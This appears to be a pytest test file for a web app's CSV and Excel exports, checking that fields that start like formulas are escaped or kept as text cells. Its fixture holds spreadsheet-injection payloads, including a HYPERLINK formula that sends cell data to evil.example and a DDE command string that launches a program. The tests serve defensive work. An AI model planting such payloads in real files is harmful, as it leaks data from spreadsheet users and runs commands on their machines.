"""Exports of lists and reports: a text that could start a formula stays text in CSV and .xlsx (issue 9)."""
import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.models import db
from tests import factories as f

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture(scope="module")
def hostile(app):
    """A customer of sales1 whose texts are formulas, with a contract and a published booking in an issue."""
    with app.app_context():
        n = f.next_id()
        cust = f.customer(f.user(app, "sales1"), name=HYPERLINK + str(n), short_name="@SUM(A1:A9)",
                          city="+cmd|' /C calc'!A0")
        pub = f.publication()
        the_issue = f.issue(pub, publish_date=date(2026, 12, 20))
        f.contact(cust, name="-2+3", mobile="13900000009", is_ad_responsible=True)
        contract = f.contract(cust, pub, number=f"=1+1-{n}", amount=Decimal("12345.60"))
        f.booking(contract, f.slot(pub, name="\t=cmd"), the_issue, published=True, price=Decimal("800.00"))
        db.session.commit()
        return {"name": cust.name, "number": contract.number, "issue": the_issue.id}


def csv_rows(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def xlsx_cells(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_customer_csv_prefixes_formula_texts(login, hostile):
    rows = csv_rows(login("sales1").get("/customerview/export/csv", query_string={"_flt_0_name": hostile["name"]}))
    assert rows[0][:3] == ["名称", "简称", "城市"]
    assert rows[1][:3] == ["'" + hostile["name"], "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0"]


def test_customer_xlsx_writes_formula_texts_as_string_cells(login, hostile):
    cells = xlsx_cells(login("sales1").get("/customerview/export/xlsx", query_string={"_flt_0_name": hostile["name"]}))
    assert cells[1][:3] == [(hostile["name"], "s"), ("@SUM(A1:A9)", "s"), ("+cmd|' /C calc'!A0", "s")]
    assert all(data_type != "f" for row in cells for _value, data_type in row)


def test_contract_xlsx_keeps_the_amount_a_number(login, hostile):
    cells = xlsx_cells(login("admin").get("/contractview/export/xlsx", query_string={"_flt_0_number": hostile["number"]}))
    number, amount = cells[1][0], cells[1][-1]
    assert number == (hostile["number"], "s")
    assert amount == (12345.6, "n")
    rows = csv_rows(login("admin").get("/contractview/export/csv", query_string={"_flt_0_number": hostile["number"]}))
    assert rows[1][0] == "'" + hostile["number"] and rows[1][-1] == "12345.60"


def test_contact_export_prefixes_a_name_that_looks_like_a_sum(login, hostile):
    rows = csv_rows(login("sales1").get("/contactview/export/csv", query_string={"_flt_0_name": "-2+3"}))
    assert rows[1][0] == "'-2+3"


@pytest.mark.parametrize("report", ["schedule", "deliveries"])
def test_reports_write_formula_texts_as_text(login, hostile, report):
    client = login("sales1")
    rows = csv_rows(client.get(f"/reports/{report}/csv?issue={hostile['issue']}"))
    cells = xlsx_cells(client.get(f"/reports/{report}/xlsx?issue={hostile['issue']}"))
    assert any(r[2] == "'" + hostile["name"] for r in rows[1:])
    assert any(c[2] == (hostile["name"], "s") for c in cells[1:])
    assert all(data_type != "f" for row in cells for _value, data_type in row)
    if report == "schedule":
        assert rows[1][1] == "'\t=cmd" and rows[1][3] == "'" + hostile["number"]
        assert cells[1][4] == (800, "n")  # the price stays a number
    else:
        assert rows[1][4] == "'-2+3"  # the ad contact


def test_a_report_for_an_impossible_issue_id_is_404(login):
    assert login("manager").get("/reports/schedule/csv?issue=99999999999999999999").status_code == 404
